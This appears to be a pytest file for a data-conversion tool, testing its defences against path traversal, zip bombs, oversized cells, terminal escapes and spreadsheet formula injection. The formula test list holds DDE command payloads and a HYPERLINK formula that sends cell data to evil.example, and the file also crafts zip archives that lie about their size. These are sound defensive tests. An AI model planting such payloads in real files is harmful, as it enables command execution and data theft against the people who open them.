"""Hostile input: no file outside OUTDIR, no zip bomb, no oversized cell, no traceback.

- Output file names are fixed (``part-NNNNN``, ``rejects.csv``, ``manifest.json``), never
  built from headers, values, field names or keys, so nothing can traverse out of OUTDIR.
- An .xlsx is checked against size and compression limits before it is unpacked.
- Any single cell and record has a size limit (``MAX_CELL_BYTES``, ``MAX_RECORD_BYTES``).
- Values that a spreadsheet would run as formulas are found, and can be defused.
- No catalogue input makes any command print a traceback; terminal escapes in data are
  never echoed raw.
"""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import polars as pl
import pytest
from click.testing import Result
from test_catalogue import CATALOGUE, Case

from activity_schema.defaults import MAX_CELL_BYTES, XLSX_MAX_COMPRESSION_RATIO
from activity_schema.errors import InputError
from activity_schema.output.formulas import escape_formulas, formula_issues, is_formula
from activity_schema.readers import read_bytes
from activity_schema.readers.excel import check_zip_limits
from activity_schema.readers.limits import size_issues

Cli = Callable[..., Result]

OUTPUT_NAME = re.compile(r"part-\d{5}\.(json|csv)|rejects\.csv|manifest\.json")

TRAVERSAL = ["../../escaped", "/tmp/absolute", "..\\..\\windows", "part-00001.json", "~/home"]


def tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


# --- output names never come from input data ---------------------------------------------


@pytest.mark.parametrize("to", ["json", "csv"])
def test_hostile_headers_and_values_never_name_a_file(cli: Cli, tmp_path: Path, to: str) -> None:
    work = tmp_path / "work"
    work.mkdir()
    headers = ["activityId", "email", "type", *TRAVERSAL]
    rows = [["1", "a@example.com", "Registered", *TRAVERSAL], ["2", "../../x", "../..", *"abcde"]]
    text = "\n".join(",".join(f'"{c}"' for c in row) for row in [headers, *rows]) + "\n"
    (work / "input.csv").write_text(text, encoding="utf-8")
    definition = {
        "fields": {
            "activityId": "{{Activity.Id}}",
            "email": "{{Activity.Contact.Field(C_EmailAddress)}}",
            "type": "{{Activity.Type}}",
            "../../field": "{{Activity.Field(Name)}}",
        }
    }
    (work / "def.json").write_text(json.dumps(definition), encoding="utf-8")
    before = tree(tmp_path)
    result = cli("convert", "-o", work / "out", "--to", to, "--definition", work / "def.json",
                 work / "input.csv")  # fmt: skip
    assert result.exit_code == 1, result.output  # row 2's email is invalid
    created = tree(tmp_path) - before
    assert {c.split("/")[0] for c in created} == {"work"}
    # Beside the folder, only convert's lock file (it must outlive the folder's swap).
    ours = {"work/out", "work/.out.convert.lock"}
    names = {Path(c).name for c in created - ours}
    assert all(OUTPUT_NAME.fullmatch(n) for n in names), names
    assert all(c.startswith("work/out/") for c in created - ours)
    assert not (tmp_path / "escaped").exists() and not Path("/tmp/absolute").exists()


# --- xlsx limits ------------------------------------------------------------------------------


def zipped(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buf.getvalue()


def declare(data: bytes, member: str, size: int) -> bytes:
    """Make the central directory claim ``size`` unpacked bytes for ``member``."""
    out = bytearray(data)
    pos = out.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", out, pos + 28)[0]
        if out[pos + 46 : pos + 46 + name_len].decode() == member:
            struct.pack_into("<I", out, pos + 24, size)
        pos = out.find(b"PK\x01\x02", pos + 4)
    return bytes(out)


SHEET = "xl/worksheets/sheet1.xml"
#: Spaces deflate about 1000:1.
PADDING = b" " * 4_000_000

ZIP_LIMITS: list[tuple[str, bytes, dict[str, int], str]] = [
    ("ratio", zipped({SHEET: PADDING}), {}, "looks like a zip bomb"),
    (
        "declared total",
        declare(zipped({SHEET: b"<x/>"}), SHEET, 3_000_000_000),
        {},
        "unpacks to 3,000,000,000 bytes",
    ),
    (
        "total under a low limit",
        zipped({SHEET: b"x" * 5000}),
        {"max_bytes": 1000},
        "over the limit",
    ),
    (
        # Declares 40,000 bytes (a harmless 10:1), inflates to 4 MB: caught by inflating.
        "a member lying about its size",
        declare(zipped({SHEET: PADDING}), SHEET, 40_000),
        {"max_bytes": 1_000_000},
        "damaged",
    ),
    ("not a zip", b"PK\x03\x04" + bytes(100), {}, "damaged"),
]


@pytest.mark.parametrize(
    ("data", "limits", "fragment"),
    [c[1:] for c in ZIP_LIMITS],
    ids=[c[0] for c in ZIP_LIMITS],
)
def test_zip_limits(data: bytes, limits: dict[str, int], fragment: str) -> None:
    with pytest.raises(InputError, match=fragment) as err:
        check_zip_limits(data, "book.xlsx", **limits)
    assert err.value.exit_code == 3


def test_an_honest_workbook_passes_the_inflating_check(make_xlsx: Callable[..., Path]) -> None:
    book = make_xlsx({"Sheet1": [["email"], *([f"user{i}@example.com"] for i in range(2000))]})
    # A limit low enough that the worst case could break it: every member is inflated.
    check_zip_limits(book.read_bytes(), "book.xlsx", max_bytes=5_000_000)
    assert read_bytes(book.read_bytes(), name="book.xlsx").rows == 2000


def test_compression_ratio_limit_is_generous_for_real_workbooks() -> None:
    # Real sheets of repetitive text compress 10-50:1; the limit leaves room above that.
    assert XLSX_MAX_COMPRESSION_RATIO >= 100


# --- size limits on cells and records -------------------------------------------------------

BIG = "x" * (MAX_CELL_BYTES + 1)

OVERSIZED: list[tuple[str, bytes, str]] = [
    ("csv", f"email,Notes\na@b.co,{BIG}\nc@d.co,ok\n".encode(), "Notes"),
    ("json", json.dumps([{"email": "a@b.co", "Notes": BIG}, {"email": "c"}]).encode(), "Notes"),
    (
        "ndjson",
        (json.dumps({"email": "a@b.co", "Notes": BIG}) + '\n{"email": "c"}\n').encode(),
        "Notes",
    ),
    (
        "multi-byte",
        f"email,Notes\na@b.co,{'é' * (MAX_CELL_BYTES // 2 + 1)}\nc,d\n".encode(),
        "Notes",
    ),
]


@pytest.mark.parametrize(
    ("data", "column"), [c[1:] for c in OVERSIZED], ids=[c[0] for c in OVERSIZED]
)
def test_an_oversized_cell_is_a_row_error(data: bytes, column: str) -> None:
    name = "input.ndjson" if b'"}\n{' in data else "input"
    table = read_bytes(data, name=name)
    issues = table.issues.filter(pl.col("code") == "too-long")
    assert issues.select("row", "severity", "column").rows() == [(1, "error", column)]
    (message,) = issues.get_column("message").to_list()
    assert f"over the {MAX_CELL_BYTES:,}-byte limit of one cell" in message
    (value,) = issues.get_column("value").to_list()
    assert len(value) < 100  # the report shows a prefix, not megabytes
    # Nothing is truncated: the rejected row keeps its original value.
    assert table.frame.get_column(column).str.len_bytes().max() > MAX_CELL_BYTES


def test_size_limits_at_the_edges() -> None:
    table = read_bytes(b"a,b\n" + b"x" * 10 + b"," + b"y" * 11 + b"\n" + b"z" * 9 + b",\n")
    cells = size_issues(table, max_cell_bytes=10, max_record_bytes=100)
    assert cells.select("row", "column", "code").rows() == [(1, "b", "too-long")]
    records = size_issues(table, max_cell_bytes=100, max_record_bytes=20)
    assert records.select("row", "code").rows() == [(1, "record-too-large")]
    assert size_issues(table, max_cell_bytes=11, max_record_bytes=21).height == 0


def test_a_header_with_braces_cannot_break_the_message() -> None:
    table = read_bytes(b"x{},{}{}\n" + b"x" * 20 + b",y\n")
    (message,) = size_issues(table, max_cell_bytes=5).get_column("message").to_list()
    assert message == "cell of 20 bytes in column 'x{}' is over the 5-byte limit of one cell"


# --- formula injection ---------------------------------------------------------------------

FORMULAS: list[tuple[str, bool]] = [
    ("=1+1", True),
    ("=cmd|' /C calc'!A0", True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ('=HYPERLINK("http://evil.example/?"&A1, "click")', True),
    ("\t=1+1", True),
    ("\r=1+1", True),
    ("=5", True),
    ("@", True),
    ("-", True),
    ("+x", True),
    ("-5", False),
    ("+5", False),
    ("-12.50", False),
    ("-1,234.56", False),
    ("+1.5e3", False),
    ("-12%", False),
    ("+1 555 0100", False),
    ("+1 (555) 010-0100", False),
    ("+44-20-7946-0958", False),
    ("plain", False),
    ("a=b", False),
    ("'=1+1", False),
    ("", False),
    (" =1+1", False),  # normalization strips leading spaces before any check
]


@pytest.mark.parametrize(("value", "flagged"), FORMULAS)
def test_formula_detection(value: str, flagged: bool) -> None:
    assert pl.select(is_formula(pl.lit(value))).item() is flagged


@pytest.mark.parametrize(("value", "flagged"), FORMULAS)
def test_escaping_is_a_quote_and_idempotent(value: str, flagged: bool) -> None:
    once = pl.select(escape_formulas(pl.lit(value))).item()
    assert once == ("'" + value if flagged else value)
    assert pl.select(escape_formulas(pl.lit(once))).item() == once
    assert pl.select(is_formula(pl.lit(once))).item() is False


def test_formula_issues_frame() -> None:
    frame = pl.DataFrame(
        {
            "_file": ["a.csv", "a.csv", "b.csv"],
            "_row": [1, 2, 7],
            "_line": [2, 3, 9],
            "email": ["a@b.co", "=x@y.co", None],
            "AssetName": ["=HYPERLINK(1)", "-5", "@SUM(A1)"],
            "Other": ["=ignored", None, None],
        }
    )
    issues = formula_issues(
        frame, ["email", "AssetName", "Missing"], file_column="_file", sources={"email": "E-mail"}
    )
    assert issues.select("file", "row", "line", "field", "column", "code", "severity").rows() == [
        ("a.csv", 1, 2, "AssetName", None, "formula-injection", "warning"),
        ("a.csv", 2, 3, "email", "E-mail", "formula-injection", "warning"),
        ("b.csv", 7, 9, "AssetName", None, "formula-injection", "warning"),
    ]
    assert issues.get_column("message").to_list()[0] == (
        "value starts with '=' and a spreadsheet opening this CSV would run it as a formula"
    )
    fixed = formula_issues(frame, ["AssetName"], file_column="_file", escaped=True)
    assert set(fixed.get_column("severity")) == {"fixed"}
    assert set(fixed.get_column("fix")) == {"prefixed with a single quote"}
    assert formula_issues(frame.head(0), ["email"], file_column="_file").height == 0


def test_tab_and_cr_are_named_in_the_message() -> None:
    frame = pl.DataFrame(
        {"_file": ["f"] * 2, "_row": [1, 2], "_line": [2, 3], "a": ["\t=1", "\r@"]}
    )
    messages = formula_issues(frame, ["a"], file_column="_file").get_column("message").to_list()
    assert [m.split(" and ")[0] for m in messages] == [
        "value starts with a tab",
        "value starts with a carriage return",
    ]


# --- no traceback, no raw terminal escapes ---------------------------------------------------


#: The catalogue without its multi-megabyte inputs, which it runs once itself.
SMALL = [c for c in CATALOGUE if not c.what.startswith(("10 MB", "over-limit", "record over"))]


@pytest.mark.parametrize("case", SMALL, ids=[c.what for c in SMALL])
@pytest.mark.parametrize(
    "command",
    [("inspect", "--format", "json"), ("lint", "--format", "github"), ("lint", "--format", "json")],
    ids=["inspect-json", "lint-github", "lint-json"],
)
def test_no_catalogue_input_gives_a_traceback(
    cli: Cli, tmp_path: Path, case: Case, command: tuple[str, ...]
) -> None:
    args = case.build(tmp_path)
    result = cli(*command, *args)
    assert result.exit_code in (0, 1, 2, 3)
    assert "Traceback" not in result.output and "internal error" not in result.output
    if command[-1] == "json" and result.exit_code in (0, 1, 3):
        json.loads(result.stdout)


@pytest.mark.parametrize("fmt", ["text", "json", "github"])
def test_terminal_escapes_in_data_are_never_echoed(cli: Cli, tmp_path: Path, fmt: str) -> None:
    (tmp_path / "input.csv").write_bytes(
        b"activityId,email,type,\x1b[2JHeader\n"
        b"1,\x1b[31mred@example.com,\x1b]8;;http://evil\x07x,\xc2\x9b31m\n"
    )
    result = cli("lint", "--format", fmt, "input.csv")
    assert result.exit_code == 1
    for char in ("\x1b", "\x07", "\x9b"):
        assert char not in result.output, char
